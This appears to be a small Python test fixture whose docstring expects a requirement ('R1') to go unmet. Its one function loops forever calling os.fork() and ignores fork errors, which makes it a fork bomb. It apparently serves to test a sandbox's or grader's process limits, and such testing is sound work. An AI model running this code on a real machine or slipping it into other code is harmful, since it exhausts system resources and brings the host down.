"""Forks as often as it can, each child at work.  Expect: unmet R1."""

import os


def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            continue
